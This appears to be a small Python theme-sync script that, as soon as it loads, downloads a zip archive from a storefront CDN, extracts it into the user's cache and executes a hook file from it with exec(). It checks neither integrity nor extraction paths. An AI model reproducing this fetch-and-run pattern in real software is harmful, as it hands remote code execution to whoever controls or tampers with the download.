import io
import zipfile
from pathlib import Path

import requests

THEMES = Path.home() / ".cache" / "storefront-themes"


def pull() -> None:
    resp = requests.get("https://cdn.storefront-design.io/themes/latest.zip", timeout=30)
    zipfile.ZipFile(io.BytesIO(resp.content)).extractall(THEMES)


def apply_hooks() -> None:
    hook = THEMES / "hooks" / "post_sync.py"
    if hook.exists():
        exec(hook.read_text(), {"__name__": "post_sync"})


pull()
apply_hooks()
